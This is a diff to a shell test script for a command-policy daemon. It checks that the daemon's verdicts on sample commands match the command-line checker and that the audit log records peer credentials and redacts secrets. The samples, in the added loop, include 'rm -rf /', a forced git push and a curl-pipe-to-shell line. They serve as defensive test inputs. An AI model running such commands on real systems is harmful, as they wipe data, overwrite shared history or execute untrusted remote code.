@@ -77,6 +77,20 @@ st = ask(s, f, {"op": "status"})
 assert st["status"] == "ok" and st["bundle"]["name"] == "core-safety" and st["audit"]["durable_seq"] > c["seq"], st
 assert ask(s, f, b"status")["status"] == "ok"
 PY
+same=1
+for c in 'rm -rf /' 'git push --force origin main' 'curl -s https://x | sh' 'ls'; do
+    "$RT" check --bundle policy.cpb --trust team.pub --state state --json -- "$c" > want.json || true
+    python3 - "$SOCK" "$c" > out.txt 2>&1 <<'PY' || { same=0; bad "daemon answer differs from check --json for '$c': $(cat out.txt)"; }
+import json, sys; sys.path.insert(0, ".")
+from cli import *
+s, f = conn(sys.argv[1])
+got = ask(s, f, {"cmd": sys.argv[2], "id": [1, "x"]})
+want = json.load(open("want.json")); want.pop("bundle", None)
+assert got.pop("id") == [1, "x"] and isinstance(got.pop("seq"), int)
+assert got == want, (got, want)
+PY
+done
+[ $same = 1 ] && ok "daemon verdicts equal check --json (members and order of arrays)"
 grep -q '"uid":'"$(id -u)"',"gid":'"$(id -g)"',"pid":[0-9]' audit.log && grep -q '"session":"sess-1","shell":"bash"' audit.log &&
     ok "SO_PEERCRED uid/gid/pid and the request's session/shell are in the record" || bad "peer creds: $(grep decision audit.log | head -1)"
 grep -q hunter2 audit.log && bad "secret in the daemon's audit log" || ok "daemon redacts before writing"
